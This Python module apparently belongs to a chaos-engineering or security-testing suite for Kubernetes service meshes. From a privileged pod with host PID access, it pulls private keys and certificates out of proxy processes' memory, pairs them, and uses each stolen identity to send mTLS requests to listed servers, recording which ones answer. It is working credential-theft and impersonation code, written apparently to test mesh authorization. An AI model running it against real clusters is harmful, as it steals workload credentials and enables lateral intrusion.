"""Runs on a node: takes the keys of proxies out of their memory, and knocks with each at every door that it is given.

`stolen_keys JSON`: `{"proxies": [{"uid", "container_id"}], "doors": [{"server", "host", "port", "authority"}]}`, in a
privileged pod with hostPID. Prints `{"knocks": [{"uid", "identity", "server", "status", "pod", "error"}], "unusable":
{uid: keys}}`: what each door answered to each identity, and how many keys have no certificate beside them. With no
proxy, and so with no key, knocks are made with an empty identity. A key never leaves this process.
"""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import asdict, dataclass
from typing import Any, Final

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.ec import EllipticCurvePublicKey

from chaos.engine.features.programs.memory_keys import pem_certificates, pem_keys, public_half
from chaos.engine.features.programs.tls_client import connect_as
from chaos.inpod.process_helper import processes
from chaos.mesh.ca import fingerprint

_STATUS: Final = re.compile(r"HTTP/1\.1 (\d{3}) ")
_SERVED: Final = re.compile(r"^x-pod: *(\S+)", re.MULTILINE | re.IGNORECASE)


@dataclass(frozen=True, slots=True)
class Stolen:
    """An identity that can be used: its name, and certificate and key in PEM."""

    identity: str
    certificate: str
    key: str


@dataclass(frozen=True, slots=True)
class Knock:
    """What a door answered to an identity. `status` 0: nothing; `pod`: the server that answered."""

    uid: str  # of the proxy whose key it was
    identity: str
    server: str
    status: int
    pod: str = ""
    error: str = ""


def pair(keys: Iterable[bytes], certificates: Iterable[bytes]) -> tuple[list[Stolen], int]:
    """Put each key together with its certificate; of an identity that was renewed the last one counts. Return the
    identities, sorted, and how many keys have no certificate. Pure.
    """
    by_key = {half: pem for pem in keys if (half := public_half(pem))}
    last: dict[str, tuple[float, Stolen]] = {}
    used: set[str] = set()
    for pem in certificates:
        try:
            found = x509.load_pem_x509_certificate(pem)
            public, names = found.public_key(), _names(found)
        except (ValueError, x509.ExtensionNotFound):  # no certificate any more, or one without a name
            continue
        if not isinstance(public, EllipticCurvePublicKey) or not names:
            continue
        if (half := fingerprint(public)) not in by_key:
            continue
        used.add(half)
        ends = found.not_valid_after_utc.timestamp()
        if ends >= last.get(names[0], (0.0, None))[0]:
            last[names[0]] = ends, Stolen(names[0], pem.decode(), by_key[half].decode())
    return [last[name][1] for name in sorted(last)], len(by_key.keys() - used)


def _names(certificate: x509.Certificate) -> list[str]:
    names = certificate.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    return names.get_values_for_type(x509.UniformResourceIdentifier)


def knock(uid: str, who: Stolen | None, doors: Iterable[Mapping[str, Any]]) -> Iterator[Knock]:
    """Ask for `/echo` at each door."""
    certificate, key = (who.certificate + "\n", who.key) if who else ("", "")
    for door in doors:
        answer = connect_as(door["host"], door["port"], certificate=certificate, key=key, authority=door["authority"])
        status, pod = read_answer(answer["status"], answer["body"], tunnelled=bool(door["authority"]))
        yield Knock(uid, who.identity if who else "", door["server"], status, pod, answer["error"])


def read_answer(status: int, body: str, *, tunnelled: bool) -> tuple[int, str]:
    """Return the status of the request, and the pod that answered. A tunnel that was given is not an answer yet: what
    came out of it is, and nothing where it was closed. Pure.
    """
    if tunnelled and status == 200:
        first = _STATUS.match(body)
        status = int(first[1]) if first else 0
    served = _SERVED.search(body)
    return status, served[1] if served else ""


def main() -> None:
    asked = json.loads(sys.argv[1])
    knocks, unusable = [], {}
    for proxy in asked["proxies"]:
        keys, certificates = set[bytes](), set[bytes]()
        for pid in processes(proxy["uid"], proxy["container_id"]):
            keys |= pem_keys(pid)
            certificates |= pem_certificates(pid)
        stolen, unusable[proxy["uid"]] = pair(keys, certificates)
        knocks += [one for who in stolen for one in knock(proxy["uid"], who, asked["doors"])]
    if not asked["proxies"]:
        knocks += knock("", None, asked["doors"])
    print(json.dumps({"knocks": [asdict(one) for one in knocks], "unusable": unusable}))


if __name__ == "__main__":
    main()
